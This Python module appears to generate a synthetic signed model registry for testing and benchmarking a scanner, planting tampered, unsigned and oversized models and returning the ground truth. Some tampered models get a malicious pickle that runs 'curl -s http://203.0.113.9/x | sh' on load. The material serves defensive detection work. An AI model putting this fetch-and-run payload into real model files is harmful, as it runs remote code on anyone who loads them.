"""A generated model registry for the fleet sweep's tests and benchmark: many small signed models, a few large ones,
and a handful of planted problems, with the ground truth returned.

Layout: ``<dest>/org<k>/model<i>/r<rev>/`` holding ``config.json``, ``model.safetensors`` and
``.signatures/manifest.json`` + ``manifest.sig`` (cosign ``sign-blob`` format, signed with the key of
:func:`registry_key`). Planted problems (deterministic from ``seed``):

* ``tampered``: after signing, one tensor of ``model.safetensors`` edited (the file no longer matches its signed
  digest), or, every third one, a malicious ``optimizer.pkl`` added (``posix.system``);
* ``unsigned``: written without ``.signatures/``.

With ``reference`` the untouched originals are written to a second registry of the same layout (the baseline copy).
Large models pad their safetensors with one zero tensor to ``large_bytes``.
"""

from __future__ import annotations

import json
import random
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np

from workbench.samples.artifacts import crafted_pickle, f32, public_key_pem, safetensors_bytes, signed_folder

__all__ = ["REGISTRY_LABEL", "RegistryTruth", "generate_registry", "registry_key"]

REGISTRY_LABEL = "fleet-registry"
_CONFIG = {"architectures": ["BertModel"], "model_type": "bert", "hidden_size": 16}


@dataclass(slots=True)
class RegistryTruth:
    """What was planted: model paths (relative to the root) by problem, and every model."""

    models: list[str] = field(default_factory=list)
    tampered: list[str] = field(default_factory=list)
    unsigned: list[str] = field(default_factory=list)
    large: list[str] = field(default_factory=list)
    files: int = 0
    bytes: int = 0


def registry_key(dest: Path) -> Path:
    """Write the registry's public key (``cosign.pub``) to ``dest`` and return its path."""
    dest.parent.mkdir(parents=True, exist_ok=True)
    dest.write_bytes(public_key_pem(REGISTRY_LABEL))
    return dest


def _files(rng: np.random.Generator, size: int | None) -> dict[str, bytes]:
    tensors = {"embeddings.weight": f32(rng.normal(0, 0.02, (32, 16)).astype(np.float32)),
               "pooler.weight": f32(rng.normal(0, 0.2, (8, 16)).astype(np.float32))}  # fmt: skip
    if size:
        n = max(1, (size - 1024) // 4)
        tensors["padding"] = ("F32", (n,), bytes(4 * n))
    return {"config.json": (json.dumps(_CONFIG, sort_keys=True) + "\n").encode(),
            "model.safetensors": safetensors_bytes(tensors)}  # fmt: skip


def _write(root: Path, rel: str, files: dict[str, bytes]) -> int:
    total = 0
    for name, data in files.items():
        path = root / rel / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        total += len(data)
    return total


def generate_registry(dest: Path, *, models: int = 1000, large: int = 0, large_bytes: int = 64 << 20,
                      tampered: int = 5, unsigned: int = 5, reference: Path | None = None,
                      seed: int = 0) -> RegistryTruth:  # fmt: skip
    """Write the registry (module docstring) under ``dest``; returns the ground truth."""
    pick = random.Random(seed)  # noqa: S311 - a reproducible choice of sample models, not a secret
    rng = np.random.default_rng(seed)
    truth = RegistryTruth()
    order = list(range(models))
    pick.shuffle(order)
    bad = set(order[:tampered])
    bare = set(order[tampered : tampered + unsigned])
    big = set(order[tampered + unsigned : tampered + unsigned + large])
    for i in range(models):
        rel = f"org{i % 10}/model{i:05d}/r{1 + i % 3}"
        files = _files(rng, large_bytes if i in big else None)
        signed = files if i in bare else signed_folder(REGISTRY_LABEL, rel, "2026-11-01T00:00:00Z", files)
        if reference is not None:
            _write(reference, rel, signed)
        served = dict(signed)
        if i in bad:
            if len(truth.tampered) % 3 == 2:
                served["optimizer.pkl"] = crafted_pickle("curl -s http://203.0.113.9/x | sh")
            else:
                blob = bytearray(served["model.safetensors"])
                blob[-5] ^= 0x40  # one weight of the last tensor edited
                served["model.safetensors"] = bytes(blob)
            truth.tampered.append(rel)
        truth.unsigned += [rel] if i in bare else []
        truth.large += [rel] if i in big else []
        truth.bytes += _write(dest, rel, served)
        truth.files += len(served)
        truth.models.append(rel)
    for lst in (truth.models, truth.tampered, truth.unsigned, truth.large):
        lst.sort()
    return truth
